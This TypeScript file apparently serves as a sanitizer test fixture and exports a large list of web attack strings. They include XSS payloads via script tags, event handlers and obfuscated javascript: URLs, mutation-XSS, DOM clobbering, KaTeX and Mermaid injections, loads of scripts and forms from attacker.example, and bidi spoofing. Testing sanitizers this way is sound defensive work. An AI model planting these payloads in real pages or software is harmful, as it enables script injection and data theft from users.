/** Says that it ran; nothing of these texts may. */
const run = 'window.attacked=1'
const elsewhere = 'https://attacker.example'

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt\n>${run}</sCrIpT\t>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
  `<svg onload="${run}"></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.attacked=1</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"></svg>`,
]

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<img/src=x/onerror=${run}>`,
  `<img src="x" ONERROR="&#119;indow.attacked=1">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<body onload="${run}">`,
  `<div onclick="${run}" onpointerover="${run}">press</div>`,
  `<input autofocus onfocus="${run}">`,
  `<a href="https://a.example" onclick="${run}">press</a>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}" autoplay></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div style="animation-name:fade" onanimationstart="${run}">x</div>`,
  `<b popover id=p onbeforetoggle="${run}">x</b><button popovertarget=p>press</button>`,
]

const scriptAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java&#x0A;script:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `javascript&colon;${run}`,
  `javascript\\:${run}`,
  `%6Aavascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload="${run}">`,
  `blob:null/attack`,
  `file:///etc/passwd`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `filesystem:https://attacker.example/temporary/x.html`,
  `//attacker.example/protocol-relative`,
  `\\\\attacker.example\\share`,
]
/** Each address in every place where Markdown takes one. */
const addresses = scriptAddresses.flatMap((address) => [
  `[press](${address})`,
  `[press](<${address}>)`,
  `![picture](<${address}>)`,
  `<${address}>`,
  `[press][it]\n\n[it]: <${address}>`,
  `<a href="${address}">press</a>`,
  `<a href='${address}' target=_top ping="${elsewhere}">press</a>`,
  `<img src="${address}" srcset="${elsewhere}/a.png 2x">`,
  `[![press](https://a.example/a.png)](<${address}>)`,
])

const loads = [
  `![picture](${elsewhere}/a.png)`,
  `<img src="${elsewhere}/a.png">`,
  `<picture><source srcset="${elsewhere}/a.png"><img></picture>`,
  `<div style="background:url(${elsewhere}/a.png)">x</div>`,
  `<style>@import '${elsewhere}/a.css'; * { background: url(${elsewhere}/b.png) }</style>`,
  `<link rel=stylesheet href="${elsewhere}/a.css">`,
  `<link rel=prefetch href="${elsewhere}/a">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">\n\n[press](relative)`,
  `<form action="${elsewhere}"><input name=q value=1><button>press</button></form>`,
  `<button formaction="javascript:${run}">press</button>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<object data="${elsewhere}/a.swf"></object><embed src="${elsewhere}/a.swf">`,
  `<video src="${elsewhere}/a.mp4" poster="${elsewhere}/a.png" autoplay></video>`,
  `<table background="${elsewhere}/a.png"><tr><td background="${elsewhere}/b.png">x</table>`,
  `<input type=image src="${elsewhere}/a.png">`,
  `<div style="position:fixed;inset:0;z-index:9999">covers everything</div>`,
  `<template><img src="${elsewhere}/a.png" onerror="${run}"></template>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<math href="javascript:${run}">press</math>`,
]

/** HTML that is read in one way, and in another once it has been written out and read again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><desc><table><a><style><a title="</style><img src=x onerror=${run}>"></a></style></a></table></desc></svg>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?php echo '<img src=x onerror=${run}>' ?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]>&y;`,
  `<a href="x\`><img src=x onerror=${run}>\`">press</a>`,
  `<p id="</p><img src=x onerror=${run}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
]

/** Names that take the place of what a page relies on. */
const clobbering = [
  `<form id=body><input name=attributes><input name=parentNode></form>`,
  `<img name=getElementById><img name=querySelector><a id=markdown></a><a id=markdown name=show></a>`,
  `<div id="root" class="markdown-group">x</div>`,
  `<a id="__proto__" href="https://a.example">press</a>`,
]

const inOtherSyntax = [
  `$\\href{javascript:${run}}{press}$`,
  `$\\url{javascript:${run}}$`,
  `$\\htmlData{onclick=${run}}{x} \\htmlClass{markdown}{x} \\htmlId{root}{x} \\htmlStyle{background:url(${elsewhere}/a.png)}{x}$`,
  `$\\includegraphics{${elsewhere}/a.png}$`,
  `$$\n\\unicode{<img src=x onerror=${run}>} \\text{<script>${run}</script>}\n$$`,
  `\`\`\`mermaid\ngraph TD\n A["<img src=x onerror=${run}>"] --> B\n click A "javascript:${run}"\n click B call alert(1)\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import '${elsewhere}/a.css'"}}%%\ngraph TD\n A --> B\n\`\`\``,
  `\`\`\`html "><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  `\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\``,
  `[__proto__]: https://a.example\n\n[__proto__] [constructor] [toString] [^__proto__]\n\n[^__proto__]: note`,
  `[press](https://a.example "\\"onmouseover=${run} x=\\"")`,
  `![x" onerror="${run}](https://a.example/a.png)`,
  `| a |\n| - |\n| <img src=x onerror=${run}> |`,
  `> [!NOTE]<img src=x onerror=${run}>\n> x`,
  `[^x]<script>${run}</script>\n\n[^x]: <img src=x onerror=${run}>`,
  `# <img src=x onerror=${run}> {#root onclick=${run}}`,
  `www.attacker.example/<script>${run}</script> https://a.example/"onclick="${run}`,
  `<javascript&colon;${run}> <mailto:a@b.c?subject="onclick=${run}>`,
  `\u202ehttps://elpmaxe.a/\u202c \u2066\u2067\u2068 [\u202egpj.exe](https://a.example)`,
]

export const attacks: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...loads,
  ...mutations,
  ...clobbering,
  ...inOtherSyntax,
]
